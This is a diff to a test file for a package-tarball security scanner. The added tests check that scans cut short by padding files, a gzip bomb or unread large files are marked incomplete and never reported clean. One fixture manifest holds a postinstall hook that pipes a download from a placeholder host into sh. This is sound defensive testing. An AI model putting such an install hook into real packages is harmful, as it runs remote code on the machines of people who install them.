@@ -66,6 +66,8 @@ describe('scan: archive bounds', () => {
     await pipeline(Readable.from(tarOfZeros()), createGzip({ level: 1 }), createWriteStream(file));
     const report = await scanTarball(file, { maxTotalBytes: limit });
     expect(rules(report)).toContain('medium limit-total-bytes (archive)');
+    expect(rules(report)[0]).toBe('high scan-incomplete (package)');
+    expect(report.complete).toBe(false);
     // Cut off within one gunzip chunk of the limit, not after inflating the 64 MiB.
     expect(report.bytes).toBeGreaterThan(limit);
     expect(report.bytes).toBeLessThan(limit + 256 * 1024);
@@ -78,13 +80,25 @@ describe('scan: archive bounds', () => {
     expect(report.files).toBe(51);
   });
 
+  it('never calls clean a package whose install hook sits behind 20,000 empty files or a gzip bomb', async () => {
+    const manifest = { path: 'package/package.json', body: JSON.stringify({ name: 'padded', version: '1.0.0', scripts: { postinstall: 'curl -s https://example.invalid/x | sh' } }) };
+    const padded = await scanTarball(Readable.from(rawTgz([...Array.from({ length: 20_000 }, (_, i) => ({ path: `package/p/${i}` })), manifest])));
+    expect(padded.complete).toBe(false);
+    expect(rules(padded)[0]).toBe('high scan-incomplete (package)');
+    const bomb = await scanTarball(Readable.from(rawTgz([{ path: 'package/zeros.bin', body: Buffer.alloc(4 * 1024 * 1024) }, manifest])), { maxTotalBytes: 1024 * 1024 });
+    expect(bomb.complete).toBe(false);
+    expect(rules(bomb)[0]).toBe('high scan-incomplete (package)');
+  });
+
   it('skips over-long paths and files too large to read', async () => {
     const report = await scanTarball(Readable.from(rawTgz([
       manifestEntry(),
       { path: `package/${'a'.repeat(90)}.js`, body: 'x' },
       { path: 'package/big.js', body: 'x'.repeat(5000) },
     ])), { maxPathLength: 60, maxFileBytes: 4096 });
-    expect(rules(report)).toEqual(['medium limit-path-length package/' + 'a'.repeat(72), 'low file-not-scanned big.js']);
+    // big.js was not read: the package is not reported clean.
+    expect(rules(report)).toEqual(['high scan-incomplete (package)', 'medium limit-path-length package/' + 'a'.repeat(72), 'low file-not-scanned big.js']);
+    expect(report.complete).toBe(false);
   });
 
   it('rejects input that is not a tarball with MALFORMED and the file name', async () => {
